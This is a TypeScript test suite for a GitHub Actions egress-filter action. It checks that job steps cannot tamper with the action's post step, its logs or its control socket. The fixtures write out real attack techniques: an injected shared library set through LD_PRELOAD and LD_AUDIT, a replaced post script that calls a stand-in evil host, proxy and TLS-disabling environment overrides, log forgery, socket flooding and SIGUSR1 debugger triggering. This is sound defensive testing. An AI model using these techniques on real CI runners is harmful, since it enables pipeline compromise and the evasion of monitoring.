import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { nodeAction } from '../runner/fixtures/node-action.ts';
import { type Job, type JobOptions, type JobResult, reached, runJob, startJob, WORLD } from '../runner/runner.ts';
import { ASK, pidsOf, statusOf } from './guard-lab.ts';

const ACTION = '/home/runner/work/_actions/owner/egress-filter/v1';
const NODE = '/home/runner/actions-runner/cached/externals/node24/bin/node';

/** A library that tells when it is loaded, by a file, and sends what a post step could. Base64, as steps have it from us. */
let library: string;
beforeAll(() => {
  const folder = mkdtempSync(join(tmpdir(), 'egf-tampering-'));
  const source = `
    #include <arpa/inet.h>
    #include <fcntl.h>
    #include <stdio.h>
    #include <sys/socket.h>
    #include <unistd.h>
    __attribute__((constructor)) static void loaded(void)
    {
      char line[4096] = { 0 };
      int fd = open("/proc/self/cmdline", O_RDONLY);
      ssize_t size = read(fd, line, sizeof(line) - 1);
      for (ssize_t i = 0; i < size; i++) if (!line[i]) line[i] = ' ';
      FILE *out = fopen("/home/runner/work/repo/repo/loaded", "a");
      if (out) { fprintf(out, "%s\\n", line); fclose(out); }
    }`;
  writeFileSync(join(folder, 'evil.c'), source);
  execFileSync('cc', ['-shared', '-fPIC', '-o', join(folder, 'evil.so'), join(folder, 'evil.c')]);
  library = readFileSync(join(folder, 'evil.so')).toString('base64');
  rmSync(folder, { recursive: true });
});

const evilScript = `require('node:https').get('https://${WORLD.evil}/from-post', { rejectUnauthorized: false }).on('error', () => {});
require('node:fs').writeFileSync('/home/runner/work/repo/repo/evil-post', 'ran');`;

/** So that post has something to upload. */
const DENIED = { name: 'denied', if: 'always', run: 'getent ahosts denied.evil.test || true' } as const;

const job = (steps: JobOptions['steps'], options: Partial<JobOptions> = {}): Promise<JobResult> =>
  runJob({ action: { with: { policy: 'ok.test' } }, ...options, steps: [...steps, DENIED] }, { lingerMs: 300 });

const tampering = (result: JobResult): string[] =>
  result.log.flatMap(({ type, error, reason }) => (type === 'guard' && error === 'tampering' && reason ? [reason] : []));

describe('what runs after the job’s steps is what was shipped', () => {
  test('files of the action cannot be written, replaced or renamed, nor can the folders above be once post is looked at', async () => {
    const result = await job([
      {
        name: 'attack',
        run: `set +e
          exec 2>&1
          echo 'evil()' >>${ACTION}/dist/action/post.js
          rm -rf ${ACTION}/dist
          mv ${ACTION} ${ACTION}-old
          ln -sfn /tmp ${ACTION}
          mount --bind /tmp ${ACTION}
          unshare -Ur umount ${ACTION}
          unshare -Urm umount ${ACTION}
          chmod -R 777 ${ACTION}
          true`,
      },
    ]);
    expect(result.conclusion, result.step(/^Post/).log).toBe('success');
    expect(
      result.step('attack').log.match(/Read-only file system|busy|denied|not permitted|superuser|cannot overwrite|must be/gi)?.length,
    ).toBeGreaterThan(6);
    expect(result.artifacts).toHaveLength(1);
  });

  test('another post in its place, which only root can put there: it is not run, and the job fails', async () => {
    const steps = [
      {
        name: 'attack',
        run: `sudo umount -l ${ACTION}; cd ${ACTION}/dist/action; rm post.js
          echo '{"type":"commonjs"}' >package.json
          cat >post.js <<'END'
${evilScript}
END`,
      },
    ];
    const result = await job(steps, { action: { with: { policy: 'ok.test', 'allow-sudo': 'true' } } });
    expect(result.conclusion).toBe('failure');
    expect(result.step(/^Post/).signal).toBe('SIGKILL');
    expect(tampering(result)).toEqual([expect.stringMatching(/post of the action was not run: .* is not the file that was there/)]);
    expect(reached(result, WORLD.evil)).toEqual([]);
  });

  test('another Node in the place of the runner’s, which only root can put there: it is not run', async () => {
    const result = await job(
      [
        {
          name: 'attack',
          run: `cp ${NODE} /tmp/node && echo >>/tmp/node && sudo umount -l ${NODE.replace('/node24/bin/node', '')} && mv -f /tmp/node ${NODE}`,
        },
      ],
      { action: { with: { policy: 'ok.test', 'allow-sudo': 'true' } } },
    );
    expect(result.conclusion).toBe('failure');
    expect(result.step(/^Post/).signal).toBe('SIGKILL');
    expect(tampering(result)).toEqual([expect.stringMatching(/is not the Node that started the filter/)]);
  });

  test('the Node that root runs is root’s, and cannot be written', async () => {
    const result = await job([{ name: 'attack', run: `set +e; exec 2>&1; ls -l ${NODE}; echo x >>${NODE}; chmod u+w ${NODE}; true` }]);
    expect(result.step('attack').log).toMatch(/^-rwxr-xr-x 1 root /);
    expect(result.step('attack').log.match(/Read-only file system|Permission denied|Text file busy|not permitted/g)).toHaveLength(2);
    expect(result.conclusion).toBe('success');
  });
});

describe('GITHUB_ENV before post', () => {
  const evilLibrary = 'echo "$LIBRARY" | base64 -d >/home/runner/work/repo/repo/evil.so';

  test.each([
    ['LD_PRELOAD', 'LD_PRELOAD=/home/runner/work/repo/repo/evil.so'],
    ['LD_AUDIT', 'LD_AUDIT=/home/runner/work/repo/repo/evil.so'],
    ['OPENSSL_CONF', 'OPENSSL_CONF=/home/runner/work/repo/repo/evil.cnf'],
  ])('%s: post is not run, and the reason is in the log', async (name, entry) => {
    const result = await job([{ name: 'attack', env: { LIBRARY: library }, run: `${evilLibrary}; echo '${entry}' >>"$GITHUB_ENV"` }]);
    expect(result.step(/^Post/).signal).toBe('SIGKILL');
    expect(result.conclusion).toBe('failure');
    expect(tampering(result)).toEqual([expect.stringMatching(new RegExp(`${name} was set since the start of the job`))]);
  });

  test('a library path, a proxy and another authority are taken from it: post does its work, and nobody else hears of it', async () => {
    const whole = await startJob({
      action: { with: { policy: 'ok.test' } },
      steps: [
        {
          name: 'attack',
          env: { LIBRARY: library },
          run: `${evilLibrary}
            ${DENIED.run}
            for name in libdl.so.2 libstdc++.so.6 libm.so.6 libgcc_s.so.1 libpthread.so.0 libc.so.6; do cp evil.so $name; done
            {
              echo LD_LIBRARY_PATH=$PWD
              echo LD_TRACE_LOADED_OBJECTS=1
              echo https_proxy=http://${WORLD.evil}:9999
              echo HTTPS_PROXY=http://${WORLD.evil}:9999
              echo NODE_USE_ENV_PROXY=1
              echo NODE_EXTRA_CA_CERTS=$PWD/ca.pem
              echo NODE_TLS_REJECT_UNAUTHORIZED=0
              echo NODE_PATH=$PWD
            } >>"$GITHUB_ENV"`,
        },
      ],
    });
    try {
      const result = await whole.completed();
      expect(result.step(/^Post/).conclusion, result.step(/^Post/).log).toBe('success');
      expect(result.artifacts).toHaveLength(1);
      expect(reached(result, WORLD.evil)).toEqual([]);
      const note = result.log.find(({ type, reason }) => type === 'guard' && reason?.includes('was started without'))?.reason;
      for (const name of ['LD_LIBRARY_PATH', 'LD_TRACE_LOADED_OBJECTS', 'https_proxy', 'HTTPS_PROXY', 'NODE_EXTRA_CA_CERTS', 'NODE_PATH'])
        expect(note).toContain(name);
      // The proof that the library would have been loaded: the steps' own programs, but never post.
      expect(whole.machine.inside(['cat', '/home/runner/work/repo/repo/loaded']).stdout).not.toContain('post.js');
    } finally {
      await whole.stop();
    }
  });

  test('a folder in front of PATH changes nothing', async () => {
    const result = await job([
      {
        name: 'attack',
        run: `mkdir bin; for name in node sudo cat sh bash mount; do printf '#!/bin/sh\\ntouch /home/runner/work/repo/repo/path-used\\n' >bin/$name; done; chmod +x bin/*; echo $PWD/bin >>"$GITHUB_PATH"`,
      },
    ]);
    expect(result.step(/^Post/).conclusion).toBe('success');
    expect(result.artifacts).toHaveLength(1);
  });

  test('somebody who wakes every process all the time does not get a library of his into post', async () => {
    const whole = await startJob({
      action: { with: { policy: 'ok.test' } },
      steps: [
        {
          name: 'attack',
          env: { LIBRARY: library },
          run: `${evilLibrary}
            for name in libdl.so.2 libstdc++.so.6 libm.so.6; do cp evil.so $name; done
            cat >wake.py <<'END'
import os, signal
if os.fork(): os._exit(0)
os.setsid()
null = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(null, fd)
os.nice(5)
while True:
    try: os.kill(-1, signal.SIGCONT)
    except OSError: pass
END
            env -u RUNNER_TRACKING_ID python3 wake.py
            echo LD_LIBRARY_PATH=$PWD >>"$GITHUB_ENV"`,
        },
        DENIED,
      ],
    });
    try {
      const result = await whole.completed();
      if (whole.machine.event('worker-ended')?.signal === 'SIGKILL') {
        // Woken in time, and with it the guard has ended the job.
        expect(whole.log().find(({ error }) => error === 'tampering')?.reason).toMatch(/not run/);
        return;
      }
      const post = result.step(/^Post/);
      // Either it was looked at in time and is what was shipped, or it had run already and was ended: with the library it did nothing that we allow.
      if (post.conclusion === 'success') {
        expect(whole.machine.inside(['cat', '/home/runner/work/repo/repo/loaded']).stdout).not.toContain('post.js');
      } else {
        // Ended by us, or by its linker: that library is no good one.
        expect(post.signal === 'SIGKILL' || /version|symbol|library/.test(post.log), post.log).toBe(true);
        expect(result.artifacts).toEqual([]);
      }
    } finally {
      await whole.stop();
    }
  });
});

describe('the evidence', () => {
  test('log, policy, state and code of the guard cannot be written by the job', async () => {
    const result = await job([
      {
        name: 'attack',
        run: `set +e; exec 2>&1
          for path in /var/log/egress-filter/*/log.jsonl /run/egress-filter/job/ca.pem /run/egress-filter/job/proxy.mjs /run/egress-filter/job/state.json; do
            echo forged >>$path; mv $path $path-old; rm -f $path
          done
          mv /run/egress-filter/job /run/egress-filter/old; mv /run/egress-filter /run/old; mv /var/log/egress-filter /var/log/old
          find / -xdev -path '*egress-filter*' -writable -not -path '/home/*' -not -path '/proc/*' -not -type s -not -type l 2>/dev/null | sed 's/^/WRITABLE /'
          cat /run/egress-filter/job/state.json
          true`,
      },
    ]);
    const { log } = result.step('attack');
    expect(log).not.toMatch(/WRITABLE|guardPid/);
    expect(log.match(/Permission denied/g)?.length).toBeGreaterThan(10);
    expect(JSON.stringify(result.log)).not.toContain('forged');
    expect(result.conclusion).toBe('success');
  });
});

describe('the control socket', () => {
  let whole: Job;
  let result: JobResult;
  beforeAll(async () => {
    const script = JSON.stringify(ASK);
    whole = await startJob({
      action: { with: { policy: 'ok.test' } },
      actions: {
        'acme/other@v1': nodeAction({
          main: `const { spawnSync } = require('node:child_process');
            const ask = (...lines) => spawnSync('python3', ['-c', ${script}, ...lines], { encoding: 'utf8' }).stdout;
            console.log(ask('{"type":"finish"}'), ask('{"type":"sudo","enable":true}'));
            const socket = require('node:net').connect('/run/egress-filter/job/control.sock');
            socket.on('data', (data) => { console.log(String(data)); process.exit(); });
            socket.write('{"type":"finish"}\\n');`,
        }),
      },
      steps: [
        {
          name: 'run',
          env: { ASK },
          run: `python3 -c "$ASK" '{"type":"status"}' '{"type":"finish"}' '{"type":"sudo","enable":true}' '{"type":"sudo","enable":false}'`,
        },
        {
          name: 'forged',
          env: { ASK },
          run: `export GITHUB_ACTION=__owner_egress-filter GITHUB_ACTION_REPOSITORY=owner/egress-filter
            exec -a ${NODE} python3 -c "$ASK" '{"type":"finish"}'`,
        },
        {
          name: 'the script itself, by a step',
          run: `GITHUB_ACTION=__owner_egress-filter GITHUB_ACTION_REPOSITORY=owner/egress-filter ${NODE} ${ACTION}/dist/action/enable-sudo.js || true`,
        },
        { name: 'another action', uses: 'acme/other@v1' },
        {
          name: 'flood',
          run: `cat >flood.py <<'END'
import os, socket, time
if os.fork(): os._exit(0)
os.setsid()
null = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(null, fd)
for n in range(40):
    if os.fork() == 0: break
kept = []
while True:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(1)
        s.connect('/run/egress-filter/job/control.sock')
        s.send(b'{"type":"finish"}\\n' if len(kept) % 3 == 0 else b'x' * 3000)
        kept.append(s)
        if len(kept) > 20: kept.pop(0).close()
    except OSError: pass
    time.sleep(0.02)
END
            env -u RUNNER_TRACKING_ID python3 flood.py; sleep 1; touch flooding`,
        },
        { name: 'sudo', run: 'sudo -n true && echo GOT ROOT; true' },
        DENIED,
      ],
    });
    await whole.workspaceFile('flooding', 120_000);
    result = await whole.completed();
  }, 240_000);
  afterAll(() => whole?.stop());

  const answers = (name: string): { status: string; message?: string }[] =>
    result
      .step(name)
      .log.split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line) => JSON.parse(line));

  test('tells everybody the status, and nobody but the steps of this action gets more: why, with what the kernel says of who asked', () => {
    expect(answers('run').map(({ status }) => status)).toEqual(['ok', 'refused', 'refused', 'refused']);
    expect(answers('run')[1]?.message).toMatch(
      /^Only the post step of this action.*asked by process \d+ \(\/usr\/bin\/python3[^)]*\) of step __run\.$/,
    );
  });

  test('a forged environment and name change nothing', () => {
    expect(answers('forged')).toEqual([{ status: 'refused', message: expect.stringContaining('of step __run_2') }]);
  });

  test('our own script, started by another step, is refused', () => {
    expect(result.step('the script itself, by a step').log).toContain('refused');
  });

  test('another action is refused, its own process and its children', () => {
    expect(result.step('another action').log.match(/"status":"refused"/g)).toHaveLength(3);
    expect(result.step('another action').log).toContain('of step __acme_other');
  });

  test('sudo stays locked, and the job goes on: post is heard through a flood', () => {
    expect(result.step('sudo').log).not.toContain('GOT ROOT');
    expect(result.step(/^Post/).conclusion, result.step(/^Post/).log).toBe('success');
    expect(result.artifacts).toHaveLength(1);
    expect(pidsOf(whole.machine, /flood\.py/).length).toBeGreaterThan(30);
    expect(statusOf(whole.machine).status).toBe('ok');
  });
});

test('SIGUSR1 at any time opens no debugger in post, through which its sender could speak', async () => {
  const whole = await startJob({
    action: { with: { policy: 'ok.test' } },
    steps: [
      {
        name: 'attack',
        run: `cat >debug.py <<'END'
import os, signal, time
if os.fork(): os._exit(0)
os.setsid()
null = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(null, fd)
while True:
    for pid in os.listdir('/proc'):
        try:
            if b'action/post.js' in open('/proc/%s/cmdline' % pid, 'rb').read() and 'T' not in open('/proc/%s/stat' % pid).read().split(')')[1][:3]:
                os.kill(int(pid), signal.SIGUSR1)
        except (OSError, ValueError): pass
    time.sleep(0.001)
END
          env -u RUNNER_TRACKING_ID python3 debug.py`,
      },
      // So that a post that was left alone has something to upload.
      DENIED,
    ],
  });
  try {
    const result = await whole.completed();
    expect(result.steps.map(({ log }) => log).join('\n')).not.toContain('Debugger listening');
    // Before Node is up the signal ends post, and where that was before the guard has looked, the guard ends Runner.Worker.
    if (result.artifacts.length === 0) expect(result.conclusion).toBe('failure');
  } finally {
    await whole.stop();
  }
});
